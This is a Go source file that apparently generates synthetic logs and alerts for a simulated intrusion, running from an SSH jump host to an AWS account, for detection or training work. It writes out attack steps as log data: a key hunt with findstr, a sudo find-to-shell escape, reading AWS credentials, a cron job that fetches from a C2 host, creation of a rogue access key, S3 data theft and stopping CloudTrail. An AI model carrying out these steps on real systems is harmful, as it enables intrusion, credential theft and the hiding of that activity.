package main

import (
	"fmt"
	"time"
)

// jumpHost is the way to Linux: a private key from a home share, sudo, a cron job.
func (g *generator) jumpHost() {
	server := g.roots["server"]
	g.tells(freight, "jump-host", "T1552.004")
	g.run(server, "13:34:22", sys32+"findstr.exe", `findstr /s /i /m "BEGIN OPENSSH" D:\Homes\*`)
	g.tells(freight, "jump-host", "T1021.004")
	client := g.run(server, "13:52:05", sys32+`OpenSSH\ssh.exe`, `ssh.exe -o StrictHostKeyChecking=no -i C:\Windows\Temp\k s.okafor@10.20.40.10`)
	f := g.connect(at("13:52:06.410"), fileSrv, jump, 22, "ssh", 46*time.Minute, 31_000, 128_000)
	g.connected(client, f, true)
	g.conn(f)
	line := g.login(jump, "13:52:07", "s.okafor", fileSrv.ip, f.sport, keyOkafor)
	g.wazuhLog(jump, at("13:52:07"), wazuhRule{3, "5715", "sshd: authentication success.", []string{"syslog", "sshd", "authentication_success"},
		[]technique{{"T1078", "Valid Accounts", "TA0001", "Initial Access"}}}, "sshd", "sshd",
		line, "/var/log/auth.log", O{"srcip", fileSrv.ip, "srcport", fmt.Sprint(f.sport), "dstuser", "s.okafor"})
	g.escalate()
	g.cronJob()
	g.benign()
}

// escalate is how s.okafor's session becomes root's, and what it reads then.
func (g *generator) escalate() {
	g.tells(freight, "jump-host", "T1548.003")
	g.sudo(jump, "13:55:10", "s.okafor", "pts/3", "/home/s.okafor", "list")
	escape := `/usr/bin/find /var/log -name lastlog -exec /bin/sh ; -quit`
	line := g.sudo(jump, "13:58:41", "s.okafor", "pts/3", "/home/s.okafor", escape)
	g.wazuhLog(jump, at("13:58:41"), wazuhRule{4, "5403", "First time user executed sudo.", []string{"syslog", "sudo"}, []technique{tSudo}}, "sudo", "sudo",
		line, "/var/log/auth.log",
		O{"srcuser", "s.okafor", "dstuser", "root", "tty", "pts/3", "pwd", "/home/s.okafor", "command", escape})
	parent := linuxPID(jump, "13:58:41")
	g.audited("13:58:41.204", execution{host: jump, key: "exec", exe: "/usr/bin/find", argv: []string{"/usr/bin/find", "/var/log", "-name", "lastlog", "-exec", "/bin/sh", ";", "-quit"},
		cwd: "/home/s.okafor", ppid: parent, pid: parent + 1, auid: "s.okafor", uid: "root", euid: "root", tty: "pts3", session: 214})
	g.audited("13:58:41.229", execution{host: jump, key: "exec", exe: "/usr/bin/dash", argv: []string{"/bin/sh"},
		cwd: "/home/s.okafor", ppid: parent + 1, pid: parent + 2, auid: "s.okafor", uid: "root", euid: "root", tty: "pts3", session: 214})
	g.tells(freight, "jump-host", "T1552.001")
	g.audited("14:03:26.871", execution{host: jump, key: "exec", exe: "/usr/bin/cat", argv: []string{"cat", "/home/deploy/.aws/credentials"},
		cwd: "/root", ppid: parent + 2, pid: parent + 9, auid: "s.okafor", uid: "root", euid: "root", tty: "pts3", session: 214})
}

func (g *generator) cronJob() {
	g.tells(freight, "jump-host", "T1053.003")
	parent := linuxPID(jump, "14:08:15")
	g.audited("14:08:15.440", execution{host: jump, key: "cron", exe: "/usr/bin/tee", argv: []string{"tee", "/etc/cron.d/ux-sync"}, cwd: "/root", ppid: parent, pid: parent + 3,
		auid: "s.okafor", uid: "root", euid: "root", tty: "pts3", session: 214, path: "/etc/cron.d/ux-sync", nametype: "CREATE", syscall: "257", syscallTag: "openat"})
	g.wazuhFile(jump, at("14:08:16"), wazuhRule{5, "554", "File added to the system.", []string{"ossec", "syscheck", "syscheck_entry_added"}, []technique{tCron}},
		"/etc/cron.d/ux-sync", "added", "root", 92)
	pid := linuxPID(jump, "14:30:01")
	g.auth(jump, "14:30:01", "CRON", pid, "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)")
	g.tells(freight, "command-and-control", "T1071.001")
	g.audited("14:30:01.512", execution{host: jump, key: "exec", exe: "/usr/bin/curl", argv: []string{"curl", "-fsSk", "https://" + c2Name + "/u/j"}, cwd: "/root",
		ppid: pid + 1, pid: pid + 2, auid: "root", uid: "root", euid: "root", tty: "(none)", session: 219})
	f := g.connect(at("14:30:01.688"), jump, c2IP, 443, "ssl", 900*time.Millisecond, 640, 4210)
	f.name = c2Name
	g.conn(f)
	g.eveTLS(f, r10, "curl")
}

// cloud is the stolen key of the build system, used from a rented machine.
func (g *generator) cloud() {
	const agent = "aws-cli/2.15.0 Python/3.11.6 Linux/6.5.0-kali3-cloud-amd64 exe/x86_64.kali.2023"
	own := func(technique, clock string, c call) {
		g.tells(freight, "cloud", technique)
		c.who, c.from, c.agent = ciDeployer, cloudIP, agent
		g.trail(clock, c)
	}
	denied := func(action string) string {
		return "User: arn:aws:iam::" + account + ":user/ci-deployer is not authorized to perform: " + action
	}
	own("T1078.004", "14:37:02", call{source: "sts", name: "GetCallerIdentity"})
	own("T1619", "14:37:40", call{source: "s3", name: "ListBuckets"})
	own("T1087.004", "14:39:15", call{source: "iam", name: "ListUsers"})
	own("T1087.004", "14:40:02", call{source: "iam", name: "ListAttachedUserPolicies", params: O{"userName", "report-exporter"}})
	own("T1580", "14:41:33", call{source: "ec2", name: "DescribeInstances", params: O{"instancesSet", O{}, "filterSet", O{}}, code: "Client.UnauthorizedOperation", message: denied("ec2:DescribeInstances")})
	own("T1098.001", "14:52:10", call{source: "iam", name: "CreateAccessKey", write: true, params: O{"userName", "report-exporter"},
		response: O{"accessKey", O{"userName", "report-exporter", "accessKeyId", exporter.key, "status", "Active", "createDate", "Mar 4, 2026, 2:52:10 PM"}}})
	own("T1098", "14:54:48", call{source: "iam", name: "AttachUserPolicy", write: true, params: O{"userName", "report-exporter", "policyArn", "arn:aws:iam::aws:policy/AdministratorAccess"},
		code: "AccessDenied", message: denied("iam:AttachUserPolicy")})
	for i, key := range []string{"lens/TL-9/optical-stack.step", "lens/TL-9/coatings.xlsx", "contracts/2026/ministry-tender.pdf"} {
		clock := []string{"14:58:20", "14:58:44", "15:03:09"}[i]
		own("T1530", clock, call{source: "s3", name: "GetObject", data: true, params: O{"bucketName", "tarnholm-design-archive", "key", key, "Host", "tarnholm-design-archive.s3." + region + ".amazonaws.com"},
			extra: O{"SignatureVersion", "SigV4", "CipherSuite", "TLS_AES_128_GCM_SHA256", "bytesTransferredIn", 0, "AuthenticationMethod", "AuthHeader", "bytesTransferredOut", 48_200_113 + i*9_114_202},
			resources: L{O{"type", "AWS::S3::Object", "ARN", "arn:aws:s3:::tarnholm-design-archive/" + key},
				O{"accountId", account, "type", "AWS::S3::Bucket", "ARN", "arn:aws:s3:::tarnholm-design-archive"}}})
	}
	own("T1562.008", "15:14:27", call{source: "cloudtrail", name: "StopLogging", write: true, params: O{"name", "arn:aws:cloudtrail:" + region + ":" + account + ":trail/org-trail"}})
	g.cloudFindings()
	g.benign()
}

func (g *generator) cloudFindings() {
	g.tells(freight, "cloud", "T1078.004")
	g.guardDuty(guard{kind: "PenTest:IAMUser/KaliLinux", title: "API GetCallerIdentity was invoked from a Kali Linux computer.",
		text:     "API GetCallerIdentity was invoked from a remote host with IP address 192.0.2.66 that is running the Kali Linux operating system.",
		severity: "5.0", resource: keyResource(ciDeployer), action: apiAction("GetCallerIdentity", "sts", cloudIP), first: at("14:37:02"), last: at("15:14:27"), count: 11, role: "TARGET"})
	g.tells(freight, "cloud", "T1530")
	g.guardDuty(guard{kind: "Exfiltration:IAMUser/AnomalousBehavior", title: "User IAMUser : ci-deployer is anomalously invoking APIs commonly used in Exfiltration tactics.",
		text:     "APIs commonly used in Exfiltration tactics were invoked by user IAMUser : ci-deployer, under anomalous circumstances. Such activity is not typically seen from this user.",
		severity: "8.0", resource: keyResource(ciDeployer), action: apiAction("GetObject", "s3", cloudIP), first: at("14:58:20"), last: at("15:03:09"), count: 3, role: "TARGET"})
	g.tells(freight, "cloud", "T1562.008")
	g.guardDuty(guard{kind: "Stealth:IAMUser/CloudTrailLoggingDisabled", title: "AWS CloudTrail trail org-trail was disabled.",
		text:     "AWS CloudTrail trail arn:aws:cloudtrail:" + region + ":" + account + ":trail/org-trail was disabled by ci-deployer calling StopLogging under unusual circumstances.",
		severity: "2.0", resource: keyResource(ciDeployer), action: apiAction("StopLogging", "cloudtrail", cloudIP), first: at("15:14:27"), last: at("15:14:27"), count: 1, role: "TARGET"})
}
